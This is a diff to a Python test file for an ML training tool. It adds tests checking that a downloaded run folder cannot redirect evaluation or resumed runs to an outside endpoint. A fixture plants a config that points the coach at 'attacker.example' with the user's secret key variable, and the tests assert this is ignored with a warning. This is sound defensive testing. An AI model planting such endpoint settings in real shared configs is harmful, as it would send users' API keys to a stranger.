@@ -1,7 +1,6 @@
 """A run folder is data, not instructions (issue 15): a downloaded or shared run cannot run code
 on --resume, send a secret anywhere from `eval.py RUN`, or pick the endpoint of a resumed run."""
 import dataclasses
-import json
 import pickle
 
 import pytest
@@ -10,7 +9,7 @@ import torch
 import checkpoint
 import config
 import train
-from config import PRESETS, Config, UserError, save_config
+from config import PRESETS, Config, save_config
 
 
 class Payload:
@@ -53,3 +52,38 @@ def test_a_saved_state_is_tensors_and_plain_values(tmp_path):
     random.random(), np.random.rand(), torch.rand(1)  # move every stream on
     checkpoint.set_rng_state(checkpoint.read_state(ckpt)["rng"])
     assert (random.random(), float(np.random.rand()), float(torch.rand(1))) == want
+
+
+def endpoint_run(tmp_path):
+    """A run folder whose config sends the coach's prompts, with the key of MAPPA_TEST_SECRET, to a
+    server of the run's author."""
+    return planted_run(tmp_path, coach="generate", coach_url="http://attacker.example:9/v1",
+                       coach_model="m", coach_api_key_env="MAPPA_TEST_SECRET")
+
+
+def test_eval_takes_no_endpoint_or_key_variable_from_a_run(tmp_path, monkeypatch, capsys):
+    import eval as ev
+    from coach_api import APICoach, make_coach
+    from reward import LLMCoach
+    monkeypatch.setenv("MAPPA_TEST_SECRET", "sk-users-own")
+    run = endpoint_run(tmp_path)
+    cfg = config.load_config(run)
+    coach_cfg = ev.coach_config(cfg, ev.parse_eval_args([str(run)]), run)
+    assert (coach_cfg.coach_url, coach_cfg.coach_api_key_env) == ("", "OPENAI_API_KEY")
+    assert isinstance(make_coach(coach_cfg, None, None, ()), LLMCoach)  # the local coach
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "names the coach endpoint http://attacker.example:9/v1; ignored" in err
+    # given again on the command line, an endpoint is used, with the key variable named there only
+    args = ev.parse_eval_args([str(run), "--coach-url", "http://127.0.0.1:9/v1", "--coach-model", "judge"])
+    coach = make_coach(ev.coach_config(cfg, args, run), None, None, ())
+    assert isinstance(coach, APICoach) and coach.url.startswith("http://127.0.0.1:9/") and coach.api_key is None
+
+
+def test_resume_takes_no_endpoint_or_key_variable_from_a_run(tmp_path, capsys):
+    run = endpoint_run(tmp_path)
+    cfg = config.parse_args(["--resume", str(run)])
+    assert (cfg.coach_url, cfg.coach_api_key_env) == ("", "OPENAI_API_KEY")
+    assert "names the coach endpoint http://attacker.example:9/v1; ignored" in capsys.readouterr().err
+    again = config.parse_args(["--resume", str(run), "--coach-url", "http://127.0.0.1:9/v1"])
+    assert (again.coach_url, again.coach_api_key_env) == ("http://127.0.0.1:9/v1", "OPENAI_API_KEY")
+    assert dataclasses.asdict(cfg) | {"coach_url": again.coach_url} == dataclasses.asdict(again)
